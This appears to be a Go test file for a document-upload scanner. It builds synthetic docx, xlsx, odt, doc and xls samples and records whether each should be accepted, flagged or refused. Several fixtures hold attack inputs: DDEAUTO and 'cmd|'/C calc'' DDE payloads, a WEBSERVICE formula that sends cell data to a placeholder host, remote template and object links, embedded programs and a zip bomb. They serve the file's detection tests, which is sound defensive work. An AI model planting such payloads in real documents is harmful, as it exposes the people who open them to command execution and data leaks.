package inspect

import (
	"bytes"
	"encoding/binary"
	"slices"
	"unicode/utf16"
)

const (
	relationshipType = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	xmlDeclaration   = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`
)

// office builds a document of the new formats around extra parts.
func office(folder string, parts ...member) []byte {
	all := []member{
		file1("[Content_Types].xml", xmlDeclaration+`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>`),
		file1("_rels/.rels", xmlDeclaration+`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>`),
		file1(folder+"/main.xml", xmlDeclaration+`<w:document xmlns:w="x"><w:body><w:p>令和</w:p></w:body></w:document>`),
	}
	return buildZip(append(all, parts...)...)
}

func relation(kind, target string) member {
	return file1("word/_rels/main.xml.rels", xmlDeclaration+`<Relationships><Relationship Id="r1" Type="`+relationshipType+kind+`" Target="`+target+`" TargetMode="External"/></Relationships>`)
}

func wordPart(body string) member {
	return file1("word/extra.xml", xmlDeclaration+`<w:p xmlns:w="x">`+body+`</w:p>`)
}

func openDocument(parts ...member) []byte {
	all := []member{
		file1("mimetype", "application/vnd.oasis.opendocument.text"),
		file1("content.xml", `<office:document-content xmlns:office="o"><office:body/></office:document-content>`),
	}
	return buildZip(append(all, parts...)...)
}

func officeSamples() []sample {
	macroTypes := file1("more/[Content_Types].xml", `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`)
	samples := []sample{
		{"docx plain", "a.docx", office("word"), Accepted, nil},
		{"xlsx plain", "a.xlsx", office("xl"), Accepted, nil},
		{"pptx plain", "a.pptx", office("ppt"), Accepted, nil},
		{"docx with picture", "a.docx", office("word", member{name: "word/media/1.png", data: pngImage(4, 4)}), Accepted, nil},
		{"docx with metafile", "a.docx", office("word", member{name: "word/media/1.emf", data: append([]byte{1, 0, 0, 0}, noise(200)...)}), Accepted, nil},
		{"docx with link", "a.docx", office("word", relation("hyperlink", "https://example.jp/")), Accepted, nil},
		{"docx with mail link", "a.docx", office("word", relation("hyperlink", "mailto:a@example.jp")), Accepted, nil},
		{"xlsx with formula", "a.xlsx", office("xl", file1("xl/s.xml", `<s><f>SUM(A1:A3)&amp;"a|b"&amp;Sheet2!A1</f></s>`)), Accepted, nil},
		{"odt plain", "a.odt", openDocument(file1("manifest.rdf", "<r/>"), file1("Configurations2/accelerator/current.xml", "")), Accepted, nil},
		{"docx macro extension", "a.docm", office("word"), Refused, []Code{macro}},
		{"docx content type allows macros", "a.docx", office("word", macroTypes), Refused, []Code{macro}},
		{"docx named xlsx", "a.xlsx", office("word"), Refused, []Code{extensionMismatch}},
		{"docx named zip", "a.zip", office("word"), Refused, []Code{extensionMismatch}},
		{"zip named docx", "a.docx", realZip(), Refused, []Code{extensionMismatch}},
		{"docx link to a share", "a.docx", office("word", relation("hyperlink", `file://host/share`)), Flagged, []Code{externalLink}},
		{"docx link to a script", "a.docx", office("word", relation("hyperlink", `javascript:x`)), Flagged, []Code{externalLink}},
		{"docx remote picture", "a.docx", office("word", relation("image", "https://example.jp/a.png")), Flagged, []Code{externalLink}},
		{"docx picture on a share", "a.docx", office("word", relation("image", `\\host\a.png`)), Flagged, []Code{externalLink}},
		{"xlsx outer workbook", "a.xlsx", office("xl", relation("externalLinkPath", "book.xlsx")), Flagged, []Code{externalLink}},
		{"docx link in entities", "a.docx", office("word", relation("attached&#84;emplate", "https://example.jp/t.dotm")), Refused, []Code{externalTemplate}},
		{"docx doctype", "a.docx", office("word", file1("word/x.xml", `<!DOCTYPE a><a/>`)), Refused, []Code{officeDoctype}},
		{"docx entities", "a.docx", office("word", file1("word/x.xml", `<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>`)), Refused, []Code{officeDoctype, xmlEntity}},
		{"docx broken part", "a.docx", office("word", file1("word/x.xml", `<a><b></a>`)), Refused, []Code{xmlBroken}},
		{"docx deep part", "a.docx", office("word", file1("word/x.xml", deepXML(300))), Refused, []Code{xmlDeep}},
		{"docx field split over runs", "a.docx", office("word", wordPart(`<w:instrText>D</w:instrText><w:instrText>DEAUTO c:\\x</w:instrText>`)), Refused, []Code{dde}},
		{"docx field in CDATA", "a.docx", office("word", wordPart(`<w:instrText><![CDATA[DDEAUTO c:\\x]]></w:instrText>`)), Refused, []Code{dde}},
		{"docx field DDE", "a.docx", office("word", wordPart(`<w:instrText> DDE excel "x"</w:instrText>`)), Refused, []Code{dde}},
		{"docx simple field", "a.docx", office("word", wordPart(`<w:fldSimple w:instr="DDEAUTO cmd"/>`)), Refused, []Code{dde}},
		{"docx field includes a picture", "a.docx", office("word", wordPart(`<w:instrText>INCLUDEPICTURE "http://x/"</w:instrText>`)), Flagged, []Code{externalLink}},
		{"xlsx dde link", "a.xlsx", office("xl", file1("xl/externalLinks/1.xml", `<externalLink><ddeLink ddeService="cmd"/></externalLink>`)), Refused, []Code{dde}},
		{"xlsx dde formula", "a.xlsx", office("xl", file1("xl/s.xml", `<s><f>cmd|'/C calc'!A0</f></s>`)), Refused, []Code{dde}},
		{"xlsx web formula", "a.xlsx", office("xl", file1("xl/s.xml", `<s><f>WEBSERVICE("http://x/"&amp;A1)</f></s>`)), Flagged, []Code{externalLink}},
		{"docx embedded program", "a.docx", office("word", member{name: "word/embeddings/a.bin", data: program()}), Refused, []Code{executable, embeddedFile}},
		{"docx embedded page", "a.docx", office("word", file1("word/chunk.html", "<html><script>x</script></html>")), Refused, []Code{script, embeddedFile}},
		{"docx embedded rtf", "a.docx", office("word", file1("word/chunk.rtf", `{\rtf1}`)), Refused, []Code{unsupported}},
		{"docx embedded workbook", "a.docx", office("word", member{name: "word/embeddings/b.xlsx", data: office("xl")}), Flagged, []Code{embeddedFile}},
		{"docx embedded workbook with macros", "a.docx", office("word", member{name: "word/embeddings/b.xlsx", data: office("xl", file1("xl/vbaProject.bin", "x"))}), Refused, []Code{macro}},
		{"docx embedded object", "a.docx", office("word", member{name: "word/embeddings/o.bin", data: compoundFile("Contents")}), Flagged, []Code{oleObject}},
		{"docx embedded package", "a.docx", office("word", member{name: "word/embeddings/o.bin", data: compoundFile("\x01Ole10Native")}), Refused, []Code{olePackage}},
		{"docx broken object", "a.docx", office("word", member{name: "word/embeddings/o.bin", data: compoundFile("Contents")[:600]}), Refused, []Code{oleBroken}},
		{"docx bomb", "a.docx", office("word", member{name: "word/x.xml", data: append([]byte("<a>"), spaces(3<<20)...), method: zipDeflated}), Refused, []Code{archiveRatio}},
		{"docx without relations", "a.docx", buildZip(file1("[Content_Types].xml", "<Types/>"), file1("word/document.xml", "<d/>")), Refused, []Code{officeBroken}},
		{"docx in a zip with macros", "a.zip", buildZip(member{name: "a.docx", data: office("word", file1("word/vbaProject.bin", "x"))}), Refused, []Code{macro}},
		{"docx cut short", "a.docx", office("word")[:300], Refused, nil},
		{"docx encrypted part", "a.docx", office("word", member{name: "word/x.xml", data: noise(30), flags: 1}), Refused, []Code{encrypted}},
		{"odt macro", "a.odt", openDocument(file1("Basic/Standard/Module1.xml", "<m/>")), Refused, []Code{macro}},
		{"odt python", "a.odt", openDocument(file1("Scripts/python/a.py", "x")), Refused, []Code{macro}},
		{"odt event", "a.odt", openDocument(file1("styles.xml", `<s xmlns:script="s"><script:event-listener/></s>`)), Refused, []Code{macro}},
		{"odt encrypted", "a.odt", openDocument(file1("META-INF/manifest.xml", `<m:manifest xmlns:m="m"><m:encryption-data/></m:manifest>`)), Refused, []Code{encrypted}},
		{"ods dde", "a.ods", openDocument(file1("styles.xml", `<s xmlns:table="t"><table:dde-link/></s>`)), Refused, []Code{dde}},
		{"odt remote picture", "a.odt", openDocument(file1("styles.xml", `<d:image xmlns:d="d" xmlns:x="x" x:href="http://x/a.png"/>`)), Flagged, []Code{externalLink}},
		{"odt without content", "a.odt", buildZip(file1("mimetype", "application/vnd.oasis.opendocument.text")), Refused, []Code{officeBroken}},
	}
	for _, kind := range []string{"attachedTemplate", "frame", "subDocument", "oleObject", "aFChunk"} {
		samples = append(samples, sample{"docx remote " + kind, "a.docx", office("word", relation(kind, "https://example.jp/x")), Refused, []Code{externalTemplate}})
	}
	for _, row := range []struct {
		folder, ext, part string
		code              Code
	}{
		{"word", "docx", "word/vbaProject.bin", macro}, {"xl", "xlsx", "xl/vbaProject.bin", macro}, {"ppt", "pptx", "ppt/vbaProject.bin", macro},
		{"word", "docx", "word/VBAPROJECT.BIN", macro}, {"word", "docx", "word/vbaData.xml", macro},
		{"xl", "xlsx", "xl/macrosheets/sheet1.xml", macro}, {"word", "docx", "word/activeX/activeX1.bin", activeX},
	} {
		part := member{name: row.part, data: []byte("<a/>")}
		samples = append(samples, sample{row.ext + " part " + row.part, "a." + row.ext, office(row.folder, part), Refused, []Code{row.code}})
	}
	return samples
}

// compoundFile builds an OLE2 container with one stream of each name, 4,096
// bytes long and empty unless content is given by withStream.
func compoundFile(names ...string) []byte {
	streams := make([]oleStream, len(names))
	for i, name := range names {
		streams[i] = oleStream{name: name, kind: 2}
	}
	return buildCompound(streams...)
}

type oleStream struct {
	name string
	kind byte
	data []byte
}

// buildCompound lays out: header, table, directory of 16 entries, streams.
func buildCompound(streams ...oleStream) []byte {
	const sector, free, end = 512, 0xffffffff, 0xfffffffe
	fat := []uint32{0xfffffffd, 2, 3, 4, end}
	directory := make([]byte, 4*sector)
	oleItem(directory, 0, "Root Entry", 5, end, 0)
	var body []byte
	for i, s := range streams {
		size := max(4096, (len(s.data)+sector-1)/sector*sector)
		first := uint32(len(fat))
		if s.kind == 1 {
			oleItem(directory, i+1, s.name, 1, 0, 0)
			continue
		}
		oleItem(directory, i+1, s.name, s.kind, first, uint32(size))
		for range size/sector - 1 {
			fat = append(fat, uint32(len(fat))+1)
		}
		fat = append(fat, end)
		body = append(body, append(slices.Clone(s.data), make([]byte, size-len(s.data))...)...)
	}
	for len(fat) < sector/4 {
		fat = append(fat, free)
	}
	header := make([]byte, sector)
	copy(header, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	for at, value := range map[int]uint32{24: 0x0003003e, 28: 0x0009fffe, 32: 6, 44: 1, 48: 1, 56: 4096, 60: end, 68: end} {
		binary.LittleEndian.PutUint32(header[at:], value)
	}
	for at := 80; at < sector; at += 4 {
		binary.LittleEndian.PutUint32(header[at:], free)
	}
	var b bytes.Buffer
	b.Write(header)
	put(&b, fat)
	b.Write(directory)
	b.Write(body)
	return b.Bytes()
}

func oleItem(directory []byte, i int, name string, kind byte, first, size uint32) {
	item := directory[128*i:]
	units := utf16.Encode([]rune(name))
	for j, u := range units {
		binary.LittleEndian.PutUint16(item[2*j:], u)
	}
	binary.LittleEndian.PutUint16(item[64:], uint16(2*len(units)+2))
	item[66] = kind
	binary.LittleEndian.PutUint32(item[116:], first)
	binary.LittleEndian.PutUint32(item[120:], size)
}

// roomyCompound repeats the table's sector, as writers that leave room do.
func roomyCompound() []byte {
	b := compoundFile("WordDocument")
	spare := bytes.Repeat([]byte{0xff}, 512)
	at := uint32(len(b)/512 - 1)
	for i, last := range []uint32{at, at + 1} {
		binary.LittleEndian.PutUint32(b[80+4*i:], last)
		binary.LittleEndian.PutUint32(b[512+4*last:], 0xfffffffd)
	}
	return append(b, append(spare, spare...)...)
}

// records joins BIFF records of a workbook.
func records(pairs ...any) []byte {
	var b bytes.Buffer
	for i := 0; i < len(pairs); i += 2 {
		body := pairs[i+1].(string)
		put(&b, uint16(pairs[i].(int)), uint16(len(body)))
		b.WriteString(body)
	}
	return b.Bytes()
}

func oleSamples() []sample {
	const begin, filePass, sheet, end = 0x809, 0x2f, 0x85, 0x0a
	book := func(b []byte) []byte { return buildCompound(oleStream{"Workbook", 2, b}) }
	lockedWord := make([]byte, 16)
	lockedWord[11] = 1
	word := compoundFile("WordDocument")
	samples := []sample{
		{"doc plain", "a.doc", word, Accepted, nil},
		{"xls plain", "a.xls", book(records(begin, "0000", sheet, "\x00\x00\x00\x00\x00\x00\x02\x00ab", end, "")), Accepted, nil},
		{"ppt plain", "a.ppt", compoundFile("PowerPoint Document"), Accepted, nil},
		{"xls macro sheet", "a.xls", book(records(begin, "0000", sheet, "\x00\x00\x00\x00\x02\x01\x02\x00ab", end, "")), Refused, []Code{macro}},
		{"xls module sheet", "a.xls", book(records(begin, "0000", sheet, "\x00\x00\x00\x00\x00\x06\x02\x00ab", end, "")), Refused, []Code{macro}},
		{"xls password", "a.xls", book(records(begin, "0000", filePass, "\x01\x00", end, "")), Refused, []Code{encrypted}},
		{"doc password", "a.doc", buildCompound(oleStream{"WordDocument", 2, lockedWord}), Refused, []Code{encrypted}},
		{"ppt password", "a.ppt", compoundFile("PowerPoint Document", "EncryptedSummary"), Refused, []Code{encrypted}},
		{"docx password", "a.docx", compoundFile("EncryptionInfo", "EncryptedPackage"), Refused, []Code{encrypted}},
		{"xlsx password", "a.xlsx", compoundFile("EncryptionInfo", "EncryptedPackage"), Refused, []Code{encrypted}},
		{"doc dde", "a.doc", buildCompound(oleStream{"WordDocument", 2, []byte("\x13DDEAUTO cmd")}), Refused, []Code{dde}},
		{"doc dde wide", "a.doc", buildCompound(oleStream{"WordDocument", 2, []byte("\x13\x00D\x00D\x00E\x00A\x00U\x00T\x00O\x00")}), Refused, []Code{dde}},
		{"doc empty pool of objects", "a.doc", buildCompound(oleStream{"WordDocument", 2, nil}, oleStream{"ObjectPool", 1, nil}), Accepted, nil},
		{"doc objects", "a.doc", buildCompound(oleStream{"WordDocument", 2, nil}, oleStream{"ObjectPool", 1, nil}, oleStream{"_1234567890", 1, nil}), Flagged, []Code{oleObject}},
		{"doc table with room", "a.doc", roomyCompound(), Accepted, nil},
		{"xls objects", "a.xls", buildCompound(oleStream{"Workbook", 2, nil}, oleStream{"MBD00012345", 1, nil}), Flagged, []Code{oleObject}},
		{"doc package", "a.doc", buildCompound(oleStream{"WordDocument", 2, nil}, oleStream{"ObjectPool", 1, nil}, oleStream{"\x01Ole10Native", 2, program()}), Refused, []Code{olePackage}},
		{"xls named doc", "a.doc", book(nil), Refused, []Code{extensionMismatch}},
		{"mail as doc", "a.doc", compoundFile("__properties_version1.0"), Refused, []Code{unsupported, extensionMismatch}},
		{"mail", "a.msg", compoundFile("__properties_version1.0"), Refused, []Code{unsupported}},
		{"doc cut short", "a.doc", word[:2000], Refused, []Code{oleBroken}},
		{"doc cut in the stream", "a.doc", word[:5000], Refused, []Code{oleBroken}},
		{"doc table in a ring", "a.doc", patched(word, 512+8, 1), Refused, []Code{oleBroken}},
		{"doc sector size absurd", "a.doc", patched(word, 30, 60), Refused, []Code{oleBroken}},
	}
	for _, name := range []string{"VBA", "Macros", "_VBA_PROJECT", "_VBA_PROJECT_CUR"} {
		samples = append(samples,
			sample{"doc storage " + name, "a.doc", buildCompound(oleStream{"WordDocument", 2, nil}, oleStream{name, 1, nil}), Refused, []Code{macro}},
			sample{"xls storage " + name, "a.xls", buildCompound(oleStream{"Workbook", 2, nil}, oleStream{name, 1, nil}), Refused, []Code{macro}})
	}
	return samples
}
